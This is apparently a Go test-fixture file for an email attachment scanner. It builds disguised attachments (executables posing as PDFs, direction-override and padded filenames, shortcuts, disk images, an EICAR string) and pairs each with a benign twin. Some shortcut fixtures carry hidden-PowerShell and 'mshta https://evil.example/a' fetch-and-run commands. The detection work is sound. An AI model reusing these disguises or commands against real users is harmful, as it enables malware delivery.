package carrier

import (
	"encoding/binary"
	"strings"
)

// exe is a program for Windows without code: its headers, and an entry point of zero.
func exe() string {
	b := make([]byte, 1024)
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF")
	b[0x3C] = 0x80
	copy(b[0x4E:], "This program cannot be run in DOS mode.\r\n$")
	copy(b[0x80:], "PE\x00\x00\x4C\x01\x01\x00")
	binary.LittleEndian.PutUint16(b[0x94:], 0xE0)
	binary.LittleEndian.PutUint16(b[0x96:], 0x102)
	binary.LittleEndian.PutUint16(b[0x98:], 0x10B)
	copy(b[0x178:], ".text")
	return string(b)
}

// lnk is a shortcut with a command line ([MS-SHLLINK]).
func lnk(target, arguments string) []byte {
	le := binary.LittleEndian
	b := []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
	flags := uint32(0x80 | 0x08) // Unicode, relative path
	if arguments != "" {
		flags |= 0x20
	}
	b = le.AppendUint32(b, flags)
	b = append(b, make([]byte, 76-len(b))...)
	b[60] = 1
	for _, s := range []string{target, arguments} {
		if s == "" {
			continue
		}
		b = le.AppendUint16(b, uint16(len(s)))
		for i := range len(s) {
			b = append(b, s[i], 0)
		}
	}
	return append(b, 0, 0, 0, 0)
}

// pdf writes a document of the objects given, which begin with the catalogue.
func pdf(objects ...string) []byte {
	var b strings.Builder
	b.WriteString("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n")
	var at []int
	for i, o := range objects {
		at = append(at, b.Len())
		b.WriteString(digits(i+1, 0) + " 0 obj\n" + o + "\nendobj\n")
	}
	start := b.Len()
	b.WriteString("xref\n0 " + digits(len(at)+1, 0) + "\n0000000000 65535 f \n")
	for _, a := range at {
		b.WriteString(digits(a, 10) + " 00000 n \n")
	}
	b.WriteString("trailer\n<< /Size " + digits(len(at)+1, 0) + " /Root 1 0 R >>\nstartxref\n" + digits(start, 0) + "\n%%EOF\n")
	return []byte(b.String())
}

func digits(n, width int) string {
	s := ""
	for n > 0 || s == "" {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return strings.Repeat("0", max(width-len(s), 0)) + s
}

func plainPDF() []byte {
	return pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
}

// types are files that aren't what they are called.
func types() []Case {
	report, program := plainPDF(), []byte(exe())
	honest := with("report.pdf", "application/pdf", report)
	file := func(name string, body []byte) Mail { return with(name, "application/octet-stream", body) }
	note := []byte("Words that nobody runs.\n")
	test := "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"
	return []Case{
		{Name: "program", Want: []string{"class:executable"}, Carrier: file("setup.exe", program), Twin: file("setup.txt", note)},
		{Name: "program-as-pdf", Want: []string{"TYPE_CONFLICT", "class:executable"}, Carrier: with("report.pdf", "application/pdf", program), Twin: honest},
		{Name: "double-extension", Want: []string{"NAME_DOUBLE_EXTENSION"}, Carrier: file("report.pdf.exe", program), Twin: file("report.v2.pdf", report)},
		{Name: "direction-override", Want: []string{"NAME_DIRECTION_OVERRIDE"}, Carrier: file("report\u202Efdp.exe", program), Twin: file("\u05d3\u05d5\u05d7.pdf", report)},
		{Name: "padded-name", Want: []string{"NAME_PADDED"}, Carrier: file("report.pdf"+strings.Repeat(" ", 60)+".exe", program), Twin: file("annual report 2026.pdf", report)},
		{Name: "trailing-dots", Want: []string{"NAME_PADDED", "class:executable"}, Carrier: file("setup.ExE. . .", program), Twin: file("and so on....txt", note)},
		{Name: "script", Want: []string{"class:script"}, Carrier: file("invoice.js", []byte("var a = 'inert';\r\n")), Twin: file("invoice.json", []byte("{\"a\": 1}\n"))},
		{Name: "script-vbs", Want: []string{"class:script"}, Carrier: file("invoice.vbs", []byte("' inert\r\nDim a\r\n")), Twin: file("invoice.csv", []byte("a,b\r\n1,2\r\n"))},
		{Name: "batch", Want: []string{"class:script"}, Carrier: file("run.bat", []byte("@echo off\r\nrem inert\r\n")), Twin: file("run.log", []byte("echo off: inert\r\n"))},
		{Name: "powershell", Want: []string{"class:script"}, Carrier: file("run.ps1", []byte("# inert\r\n$a = 1\r\n")), Twin: file("run.md", []byte("# inert\r\n$a = 1\r\n"))},
		{Name: "shortcut", Want: []string{"SHORTCUT_RUNS"}, Carrier: file("report.pdf.lnk", lnk(`..\..\Windows\System32\cmd.exe`, "/c powershell -w hidden -enc AAAA")), Twin: file("report.lnk", lnk(`..\reports\report.pdf`, ""))},
		{Name: "shortcut-in-iso", Want: []string{"SHORTCUT_RUNS"}, Carrier: file("report.iso", isoOf(member{"report.lnk", string(lnk(`cmd.exe`, "/c mshta https://evil.example/a"))})), Twin: file("report.iso", isoOf(member{"report.pdf", string(report)}))},
		{Name: "internet-shortcut", Want: []string{"SHORTCUT_REMOTE", "SHORTCUT_RUNS"}, Carrier: file("report.url", []byte("[InternetShortcut]\r\nURL=file://\\\\192.0.2.7\\share\\setup.exe\r\n")), Twin: file("site.url", []byte("[InternetShortcut]\r\nURL=https://www.example.com/\r\n"))},
		{Name: "disk-image", Want: []string{"class:disk image"}, Carrier: file("report.iso", isoOf(member{"report.pdf", string(report)})), Twin: honest},
		{Name: "disk-image-vhd", Want: []string{"class:disk image"}, Carrier: file("report.vhd", vhdOf()), Twin: honest},
		{Name: "settings", Want: []string{"PROFILE_PAYLOAD", "PROFILE_UNSIGNED"}, Carrier: with("wifi.mobileconfig", "application/x-apple-aspen-config", []byte(profile)), Twin: with("list.plist", "text/xml", []byte(strings.Replace(plist, "BODY", "<key>a</key><string>b</string>", 1)))},
		{Name: "remote-desktop", Want: []string{"REMOTE_DESKTOP", "REMOTE_DESKTOP_SHARES"}, Carrier: file("office.rdp", []byte("full address:s:192.0.2.9\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\n")), Twin: file("office.txt", []byte("address: 192.0.2.9\r\n"))},
		{Name: "test-file", Want: []string{"TEST_FILE"}, Carrier: file("a.com", []byte(test)), Twin: file("a.txt", []byte("The test file is called EICAR.\n"))},
		{Name: "test-file-deep", Want: []string{"TEST_FILE"}, Carrier: file("a.zip", zipOf(member{"b.tar", string(tarOf(member{"c.txt", test}))})), Twin: file("a.zip", zipOf(member{"b.tar", string(tarOf(member{"c.txt", "words"}))}))},
	}
}

const plist = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>BODY</dict></plist>
`

var profile = strings.Replace(plist, "BODY", `<key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.vpn.managed</string><key>PayloadIdentifier</key><string>a.b</string></dict></array>`+
	`<key>PayloadType</key><string>Configuration</string><key>PayloadDisplayName</key><string>Office</string>`, 1)
